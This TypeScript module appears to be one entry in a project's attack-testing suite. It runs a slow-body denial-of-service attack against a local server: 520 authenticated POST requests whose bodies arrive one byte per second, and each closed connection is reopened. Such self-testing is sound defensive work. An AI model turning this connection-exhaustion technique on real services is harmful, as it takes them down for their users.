import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import type { Attack } from '../attack.ts'

const connectionCount = 520

/** Requests whose bodies never arrive: with a key of a reader at one route, with one of a steward as uploads. */
const attack: Attack = {
  name: 'slow bodies',
  description: `${connectionCount} requests whose bodies arrive byte by byte, renewed as they are refused`,
  isQuick: true,
  async run({ port, keys }, signal) {
    let openedCount = 0
    const sockets = new Set<Socket>()
    const open = (path: string, key: string) => {
      if (signal.aborted) return
      openedCount += 1
      const socket = connect(port, '127.0.0.1')
      sockets.add(socket)
      socket.on('error', () => {})
      socket.on('data', () => socket.destroy())
      socket.on('close', () => {
        sockets.delete(socket)
        setTimeout(open, 200, path, key)
      })
      socket.write(
        `POST ${path} HTTP/1.1\r\nhost: localhost\r\nauthorization: Bearer ${key}\r\ncontent-type: application/json\r\ncontent-length: 1000000\r\n\r\n{`,
      )
    }
    for (let number = 0; number < connectionCount; number += 1) {
      if (number % 2 === 0) open('/odata/$batch', keys.reader)
      else open('/imports?name=slow.json', keys.steward)
    }
    while (!signal.aborted) {
      await sleep(1_000)
      for (const socket of sockets) if (socket.writable) socket.write(' ')
    }
    for (const socket of sockets) socket.destroy()
    return `${openedCount} requests`
  },
}
export default attack
